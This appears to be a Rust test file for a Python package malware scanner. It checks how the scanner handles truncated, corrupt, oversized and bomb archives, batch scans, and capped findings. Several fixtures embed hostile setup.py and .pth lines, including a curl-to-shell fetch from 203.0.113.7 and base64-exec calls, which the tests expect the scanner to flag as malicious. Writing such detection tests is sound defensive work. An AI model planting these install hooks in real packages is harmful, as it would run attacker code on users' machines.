//! Hostile and broken input: every case gives a clear per-artifact error or
//! finding, never a panic, and a batch goes on past it.

mod support;

use assay::artifact::{self, Limits};
use assay::scan::{ArtifactReport, Scanner};
use assay::{Severity, VerdictLabel};

fn sdist(files: &str) -> (String, Vec<u8>) {
    support::Spec::parse(&format!("kind: sdist\n{files}")).build()
}

fn scan_bytes(name: &str, bytes: Vec<u8>) -> ArtifactReport {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    Scanner::new().scan_path(&path)
}

fn rules(report: &ArtifactReport) -> Vec<&str> {
    report.findings.iter().map(|f| f.rule).collect()
}

#[test]
fn truncated_gzip_keeps_what_was_read_and_says_so() {
    let filler: String = (0..4000).map(|i| format!("x{i} = {i}\n")).collect();
    let (name, bytes) = sdist(&format!(
        "### setup.py\nimport os\nos.system('curl http://203.0.113.7/x | sh')\n### pkg/big.py\n{filler}"
    ));
    let cut = bytes[..bytes.len() * 2 / 3].to_vec();
    let report = scan_bytes(&name, cut);
    assert!(
        report
            .errors
            .iter()
            .any(|e| e.contains("truncated") || e.contains("corrupt")),
        "{:?}",
        report.errors
    );
    // setup.py came first in the stream and is still judged.
    assert_eq!(report.verdict.unwrap().label, VerdictLabel::Malicious);
}

#[test]
fn corrupt_zip_is_an_error_not_a_verdict() {
    let mut bytes = b"PK\x03\x04".to_vec();
    bytes.extend((0..2000u32).map(|i| (i * 7919 % 251) as u8));
    let report = scan_bytes("pkg-1.0.zip", bytes);
    assert!(report.verdict.is_none());
    assert!(!report.errors.is_empty());
}

#[test]
fn empty_archive_and_wrong_extension() {
    let empty = {
        let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        tar::Builder::new(gz)
            .into_inner()
            .unwrap()
            .finish()
            .unwrap()
    };
    let report = scan_bytes("pkg-1.0.tar.gz", empty);
    assert!(
        report.errors.iter().any(|e| e.contains("empty")),
        "{:?}",
        report.errors
    );

    let report = scan_bytes(
        "pkg-1.0-py3-none-any.whl",
        b"just some text, not a wheel\n".to_vec(),
    );
    assert!(report.verdict.is_none());
    assert!(
        report.errors[0].contains("not a Python artifact"),
        "{:?}",
        report.errors
    );
}

#[test]
fn random_bytes_and_latin1_sources_are_analysed() {
    let junk: String = (0..3000u32)
        .map(|i| char::from(b' ' + (i * 7919 % 90) as u8))
        .collect();
    let (name, mut bytes) = sdist(&format!("### pkg/junk.py\n{junk}\n"));
    let report = scan_bytes(&name, std::mem::take(&mut bytes));
    assert!(rules(&report).contains(&"AY401"), "{report:?}");

    // A latin-1 file with a payload: the bytes are not UTF-8.
    let mut spec = support::Spec::parse("kind: sdist\n### setup.py\n");
    spec.entries[0].data = b"# -*- coding: latin-1 -*-\nimport os\nauteur = '\xe9l\xe8ve'\nos.system('curl http://203.0.113.7/x | sh')\n".to_vec();
    let report = spec.scan();
    assert_eq!(report.verdict.unwrap().label, VerdictLabel::Malicious);
}

#[test]
fn a_twenty_megabyte_line() {
    let line = "x = 1; ".repeat(3_000_000);
    assert!(line.len() > 20_000_000);
    let report = support::Spec::parse(&format!("kind: sdist\n### pkg/long.py\n{line}\n")).scan();
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(report.stats.python_files, 1);
}

#[test]
fn a_hundred_thousand_levels_of_nesting() {
    let deep = format!("x = {}1{}\n", "[".repeat(100_000), "]".repeat(100_000));
    let report = support::Spec::parse(&format!("kind: sdist\n### pkg/deep.py\n{deep}")).scan();
    let limit = report
        .findings
        .iter()
        .find(|f| f.rule == "AY401" && f.message.contains("was not analysed"))
        .expect("analysis limit reported");
    assert_eq!(limit.severity, Severity::Low);
}

#[test]
fn a_folder_that_is_not_a_package() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("notes.txt"), "hello").unwrap();
    let report = Scanner::new().scan_path(dir.path());
    assert!(
        report
            .errors
            .iter()
            .any(|e| e.contains("not a Python package")),
        "{:?}",
        report.errors
    );
}

#[test]
fn bombs_stop_reading_and_are_reported() {
    let (name, bytes) =
        support::Spec::parse("kind: sdist-zip\n### pkg/a.py\n### pkg/z.bin [zeros 40000000]\n")
            .build();
    let limits = Limits {
        max_total_bytes: 1 << 20,
        ..Limits::default()
    };
    let package = artifact::open_bytes(&name, bytes, &limits).expect("opens");
    let report = Scanner::new().limits(limits).scan_package(&package);
    assert!(rules(&report).contains(&"AY504"));
    assert!(!report.errors.is_empty());
}

#[test]
fn a_batch_goes_on_past_bad_artifacts() {
    let dir = tempfile::tempdir().unwrap();
    let (good_name, good) = sdist("### pkg/__init__.py\nx = 1\n");
    let (bad_name, bad) =
        sdist("### setup.py\nimport os\nos.system('curl http://203.0.113.7/x | sh')\n");
    let paths = vec![
        dir.path().join("missing.tar.gz"),
        dir.path().join(&good_name),
        dir.path().join("broken.zip"),
        dir.path().join(format!("evil-{bad_name}")),
    ];
    std::fs::write(&paths[1], good).unwrap();
    std::fs::write(&paths[2], b"PK\x05\x06 not really").unwrap();
    std::fs::write(&paths[3], bad).unwrap();
    let reports = Scanner::new().scan_paths(&paths, |_| {});
    let labels: Vec<Option<VerdictLabel>> = reports
        .iter()
        .map(|r| r.verdict.as_ref().map(|v| v.label))
        .collect();
    assert_eq!(
        labels,
        [
            None,
            Some(VerdictLabel::Clean),
            None,
            Some(VerdictLabel::Malicious)
        ]
    );
    assert_eq!(
        reports.iter().map(|r| r.target.clone()).collect::<Vec<_>>(),
        paths
    );
}

/// Issue 12: one finding per RECORD line (an 11.5 MB wheel gave 2.4 GB of
/// JSON). Findings of one rule in one artifact are capped; one `info`
/// finding of the rule counts the rest, and JSON and SARIF stay valid.
#[test]
fn thousand_unrecorded_files_give_capped_findings() {
    let files: String = (0..1000)
        .map(|i| format!("### pkg/m{i}.py [unrecorded]\nx = {i}\n"))
        .collect();
    let (name, bytes) = support::Spec::parse(&format!("kind: wheel\n{files}")).build();
    let report = scan_bytes(&name, bytes);
    let record: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.rule == "AY503")
        .collect();
    assert_eq!(record.len(), 101, "{:#?}", &record[..3]);
    let summary = record
        .iter()
        .find(|f| f.severity == Severity::Info)
        .expect("a summary finding");
    assert!(
        summary.message.starts_with("900 more AY503 findings"),
        "{}",
        summary.message
    );

    let mut json = Vec::new();
    assay::report::json::write(&mut json, std::slice::from_ref(&report)).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&json).expect("valid JSON");
    assert!(json.to_string().contains("900 more AY503 findings"));
    let mut sarif = Vec::new();
    assay::report::sarif::write(&mut sarif, std::slice::from_ref(&report)).unwrap();
    let sarif: serde_json::Value = serde_json::from_slice(&sarif).expect("valid JSON");
    let schema_path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/sarif-schema-2.1.0.json"
    );
    let schema: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(schema_path).unwrap()).unwrap();
    let validator = jsonschema::options().build(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| e.to_string())
        .collect();
    assert!(errors.is_empty(), "invalid SARIF: {errors:?}");
    assert!(sarif["runs"][0]["results"].as_array().unwrap().len() >= 101);
}

/// The cap is a limit of the scanner: a smaller one keeps fewer.
#[test]
fn findings_cap_follows_the_scanner_setting() {
    let files: String = (0..30)
        .map(|i| format!("### pkg/m{i}.py [unrecorded]\nx = {i}\n"))
        .collect();
    let (name, bytes) = support::Spec::parse(&format!("kind: wheel\n{files}")).build();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(&name);
    std::fs::write(&path, bytes).unwrap();
    let count = |scanner: Scanner| {
        scanner
            .scan_path(&path)
            .findings
            .iter()
            .filter(|f| f.rule == "AY503" && f.severity != Severity::Info)
            .count()
    };
    assert_eq!(count(Scanner::new()), 30);
    assert_eq!(count(Scanner::new().max_findings_per_rule(10)), 10);
}

#[test]
fn an_owned_scan_reports_the_same_whatever_the_encoding() {
    let file = |path: &str, data: &[u8]| artifact::PackageFile {
        path: path.to_owned(),
        data: data.to_vec().into(),
        mode: None,
    };
    let files = vec![
        file(
            "setup.py",
            b"import os\nos.system('curl http://203.0.113.7/x | sh')\n",
        ),
        // Shared: UTF-8 with no byte-order mark reads as itself.
        file(
            "pkg/__init__.py",
            b"import base64\nexec(base64.b64decode('aWQ='))\n",
        ),
        // Not shared: the mark is not part of the source text...
        file("pkg/marked.py", b"\xef\xbb\xbfimport os\nos.system('id')\n"),
        // ...nor are Latin-1 bytes.
        file(
            "pkg/legacy.py",
            b"# -*- coding: latin-1 -*-\nimport os\nos.system('echo \xe9; id')\n",
        ),
        file("pkg-init.pth", b"import os; os.system('id')\n"),
    ];
    let package = artifact::Package::from_files("pkg".into(), files);
    let scanner = Scanner::new();
    let borrowed = scanner.scan_package(&package);
    assert!(borrowed.findings.len() > 3, "{:?}", rules(&borrowed));
    let owned = scanner.scan_owned_package(package);
    assert_eq!(
        serde_json::to_string(&owned).unwrap(),
        serde_json::to_string(&borrowed).unwrap()
    );
}
